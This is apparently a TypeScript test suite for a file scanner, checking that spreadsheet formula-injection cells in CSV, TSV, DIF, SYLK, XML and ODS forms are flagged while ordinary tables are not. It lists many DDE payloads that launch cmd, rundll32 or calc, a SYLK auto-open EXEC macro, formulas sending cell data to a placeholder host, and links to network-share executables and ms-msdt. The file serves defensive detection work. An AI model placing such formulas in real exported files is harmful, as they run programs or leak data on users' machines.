/*
 * NAME
 *   tables.test - tables of text whose formulas start programs
 */
import t from 'tap'
import { inspectFile } from './inspected.js'
import { unpack } from './unpacked.js'

const DDE = "cmd|' /C calc'!A0"

const STARTS: readonly string[] = [
  `=${DDE}`,
  `+${DDE}`,
  `-${DDE}`,
  `@SUM(1+9)*${DDE}`,
  `=1+1+${DDE}`,
  `  =${DDE}`,
  `\t=${DDE}`,
  `"=${DDE}"`,
  `'=${DDE}`,
  `"=cmd|'""/C calc""'!'A1'"`,
  "=cmd|'/C calc.exe'!z",
  "=    C    m D                    |        '/        c       c  al  c.exe'   !   A",
  "=cmd|'/c a|b'!A1",
  "=\ncmd|'/c calc'!A1",
  '=MSEXCEL|Sheet!A1',
  "=rundll32|'URL.dll,OpenURL calc.exe'!A",
  "=msexcel|'\\..\\..\\Windows\\System32\\cmd.exe /c calc'!''",
]

t.test('formulas', async t => {
  for (const start of STARTS) {
    for (const name of ['a.csv', 'a.tsv', 'a.CSV', 'a.dif', 'a.xls']) {
      for (const before of ['', 'name,amount\nx,', 'sep=|\nx|']) {
        const { marks } = await unpack(`${before}${start},1\n`, { name })
        t.same(marks, ['dde-link'], `${name}: ${before}${start}`)
      }
    }
    const { classes } = await inspectFile(
      Buffer.from(`a,${start}\n`, 'utf16le'),
      {
        filename: 'a.csv',
      },
    )
    t.same(classes, ['active'], `UTF-16: ${start}`)
  }
})

t.test('by type alone, and in other forms', async t => {
  const row = `x,=${DDE}\n`
  t.same((await unpack(row, { type: 'text/csv' })).marks, ['dde-link'])
  const far = 'a,b,c\n'.repeat(100_000)
  t.same((await unpack(far + row, { name: 'a.csv' })).marks, ['dde-link'])
  const dif = `TABLE\n0,1\n"EXCEL"\nDATA\n0,0\n""\n-1,0\nBOT\n1,0\n"=${DDE}"\n`
  t.same((await unpack(dif, { name: 'a.dif' })).marks, ['dde-link'])
  const sylk =
    'ID;P\nO;E\nNN;NAuto_open;ER101C1\nC;X1;Y101;EEXEC("CALC.EXE")\nE\n'
  t.same((await unpack(sylk, { name: 'a.slk' })).marks, ['xlm-macro'])
  const page = `<table><tr><td>=${DDE}</td></tr></table>`
  t.ok((await unpack(page, { name: 'a.xls' })).marks.includes('dde-link'))
  const book =
    '<?xml version="1.0"?><?mso-application progid="Excel.Sheet"?>' +
    '<Workbook xmlns="urn:schemas-microsoft-com:office:spreadsheet">' +
    `<Cell ss:Formula="=${DDE.replaceAll("'", '&#39;')}"/></Workbook>`
  t.same((await unpack(book, { name: 'a.xml' })).marks, ['dde-link'])
  const ods = (formula: string): string =>
    `<table:table-cell table:formula="${formula}"/>`
  const cells = [
    'of:=DDE(&quot;soffice&quot;;&quot;/etc/passwd&quot;;&quot;a&quot;)',
    `msoxl:=${DDE}`,
  ]
  for (const cell of cells) {
    const content = { name: 'content.xml', form: 'packed' } as const
    t.same((await unpack(ods(cell), content)).marks, ['dde-link'], cell)
  }
  const binary = Buffer.from('\xe8\x02\x30\x01\0\x03\0\0\0c\0m\0d\0', 'latin1')
  const links = {
    name: 'xl/externalLinks/externalLink1.bin',
    form: 'packed',
  } as const
  t.same((await unpack(binary, links)).marks, ['dde-link'])
})

t.test('cells that load', async t => {
  const cases: Readonly<Record<string, string>> = {
    '=WEBSERVICE("https://a.example/"&A1)': 'external-object',
    '=IMPORTXML(CONCAT("http://a.example/",A1),"//a")': 'external-object',
    "='\\\\host\\share\\[a.xlsx]Sheet1'!A1": 'network-path',
    '"=HYPERLINK(""\\\\host\\share\\a.exe"",""x"")"': 'network-path',
    '=HYPERLINK("ms-msdt:/id","x")': 'program-link',
  }
  for (const [cell, mark] of Object.entries(cases)) {
    const { marks } = await unpack(`a,${cell}\n`, { name: 'a.csv' })
    t.same(marks, [mark], cell)
  }
})

t.test('honest tables', async t => {
  const honest = [
    'name,amount\nA,-1.5\nB,+49 30 1234\nC,=1+2\nD,@a\n',
    "a|b|c\n1|'x'|2\n-1|'y'!|3\n",
    'a,=SUM(A1:A3)\nb,=HYPERLINK("https://a.example";"x")\n',
    "id|text\n1|'Hello!'\n2|Stop!\n",
    "a,=Sheet1!A1\nb,='My sheet'!B2\n",
    'name;mail\n"Doe, J.";a@a.example\n',
    'a\t-\tb\n|---|---|\n',
    '| a | b |\n|---|:--|\n| -1 | it is! |\n',
  ]
  for (const text of honest) {
    for (const name of ['a.csv', 'a.tsv', 'a.xls']) {
      const { marks, defects, parts } = await unpack(text, { name })
      t.same([marks, defects, parts], [[], [], []], `${name}: ${text}`)
    }
  }
  // A letter may speak of it.
  t.same((await unpack(`=${DDE}`, { name: 'a.txt' })).marks, [])
})

t.test('time grows with the size', async t => {
  for (const piece of ["|'", '|', "=a|'x'", "|' ' ' ", '|a ', "|'x'!"]) {
    const { marks } = await unpack(piece.repeat(300_000), { name: 'a.csv' })
    t.ok(Array.isArray(marks), piece)
  }
})
